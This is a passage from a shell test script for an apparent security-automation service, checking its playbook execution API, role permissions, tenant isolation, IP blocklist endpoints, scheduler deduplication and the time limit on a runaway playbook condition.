req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{"dry_run": true, "event": {"host_id": "C.1234"}}' "$B/api/playbooks/$HP/execute"
is "$code:$(printf '%s' "$body" | jq -c '[.plan, .event, .steps[1].params.host]')" '200:[true,{"host_id":"C.1234"},"C.1234"]' \
	"... so does a plan (dry_run)"
for bad in '[1, 2]' '"not json"' '"[1]"' 7; do
	req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d "{\"event\": $bad}" "$B/api/playbooks/$HP/execute"
	is "$code" 400 "an event of $bad: 400"
done
req -H "Authorization: Bearer $VAL" "$B/api/playbooks/$HP/executions"
is "$code:$(printf '%s' "$body" | jq -r '.items[0].status')" "200:succeeded" "GET /api/playbooks/{id}/executions"
req -X POST -H "Authorization: Bearer $VAL" -H "$HJ" -d '{}' "$B/api/playbooks/$HP/execute"
is "$code" 403 "a viewer may not run a playbook"
req -H "Authorization: Bearer $VAL" "$B/api/blocklist/export?format=plain"
is "$code" 200 "GET /api/blocklist/export"
req -H "Authorization: Bearer $GINA" "$B/api/playbooks/$HP"
is "$code" 404 "another tenant's playbook over HTTP: 404"
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{"address": "192.0.2.0/28", "reason": "over http"}' "$B/api/blocklist"
is "$code:$(printf '%s' "$body" | jq -r .address)" "201:192.0.2.0/28" "POST /api/blocklist"
BL=$(printf '%s' "$body" | jq -r .entry_id)
req -H "Authorization: Bearer $VAL" "$B/api/blocklist"
like "$(printf '%s' "$body" | jq -r '[.items[].network] | join(" ")')" '192\.0\.2\.0/28' "GET /api/blocklist"
req -X DELETE -H "Authorization: Bearer $ANN" "$B/api/blocklist/$BL"
is "$code" 200 "DELETE /api/blocklist/{id}"
VC_TOKEN=$ANN vc-score analyze artifact "$ART" --rules "$T/norules" >/dev/null
X5=$(VC_TOKEN=$ADA vc-playbook due --run -o jsonl | jq -r 'select(.playbook == "on critical score") | .execution_id')
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{}' "$B/api/playbook-executions/$X5/approve"
is "$code" 403 "POST /api/playbook-executions/{id}/approve: an analyst is refused"
req -X POST -H "Authorization: Bearer $ADA" -H "$HJ" -d '{}' "$B/api/playbook-executions/$X5/approve"
is "$code:$(printf '%s' "$body" | jq -r .status)" "200:succeeded" "... an admin approves, and it runs to the end"
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{}' "$B/api/playbook-executions/$X5/cancel"
is "$code" 409 "cancelling a finished execution: 409"
req -H "Authorization: Bearer $VAL" "$B/api/playbook-executions/$X5"
is "$code:$(printf '%s' "$body" | jq -r '.steps[2].approved_by')" "200:ada" "GET /api/playbook-executions/{id}"

# ---- vc-serve's scheduler, racing cron ------------------------------------------------------------
PORT2=$(free_port)
vc-serve --listen "127.0.0.1:$PORT2" --workers 2 --playbook-interval 1 2> "$T/log2" &
echo $! >> "$T/pids"
await 60 grep -q 'listening on' "$T/log2"
ok $? "a vc-serve with a playbook thread every second starts"
VC_TOKEN=$ANN vc-score analyze artifact "$ART" --rules "$T/norules" >/dev/null
EV=$(sq "SELECT MAX(id) FROM events WHERE type = 'threat_score.created'")
by_serve() { [ -n "$(sq "SELECT id FROM playbook_executions WHERE event_id = $EV AND actor = 'vc-serve'")" ]; }
await 30 by_serve
ok $? "vc-serve's thread runs the event's playbook by itself"
VC_TOKEN=$ANN vc-score analyze artifact "$ART" --rules "$T/norules" >/dev/null
EV=$(sq "SELECT MAX(id) FROM events WHERE type = 'threat_score.created'")
for i in 1 2 3 4 5; do VC_TOKEN=$ADA vc-playbook due --run >/dev/null 2>&1; sleep 0.3; done
ran() { [ -n "$(sq "SELECT id FROM playbook_executions WHERE event_id = $EV")" ]; }
await 30 ran
sleep 2
is "$(sq "SELECT COUNT(*) FROM playbook_executions e JOIN playbooks p ON p.id = e.playbook_id WHERE e.event_id = $EV AND p.name = 'on critical score'")" 1 \
	"with cron's due --run racing it: one execution for the event"

# A runaway condition skips its playbook for that event, and nothing else.
printf 'name: runaway\ntrigger:\n  type: event\n  events: [threat_score.created]\n  condition: "last(range(1e12)) > 0"\nsteps:\n  - action: send_notification\n    params: {message: runaway fired}\n' > "$T/runaway.yaml"
with "$ADA" vc-playbook add "$T/runaway.yaml"
is "$rc" 0 "a condition that never ends still compiles: it is added"
S2=$(tail -n 1 "$T/pids")
kill "$S2" 2>/dev/null     # the second vc-serve: its scheduler would race this due
await 30 gone "$S2"
VC_TOKEN=$ANN vc-score analyze artifact "$ART" --rules "$T/norules" >/dev/null
EV=$(sq "SELECT MAX(id) FROM events WHERE type = 'threat_score.created'")
t0=$(date +%s)
with "$ADA" vc-playbook due --run -o jsonl
t1=$(date +%s)
is "$rc:$(jqr 'select(.playbook == "on critical score") | .trigger')" "0:event" "due --run still runs the other playbooks"
is "$(sq "SELECT COUNT(*) FROM playbook_executions e JOIN playbooks p ON p.id = e.playbook_id WHERE p.name = 'runaway'")" 0 \
	"the runaway condition fired nothing"
ok $([ $((t1 - t0)) -lt 30 ]; echo $?) "... and was stopped by its time limit ($((t1 - t0)) s)"

done_testing
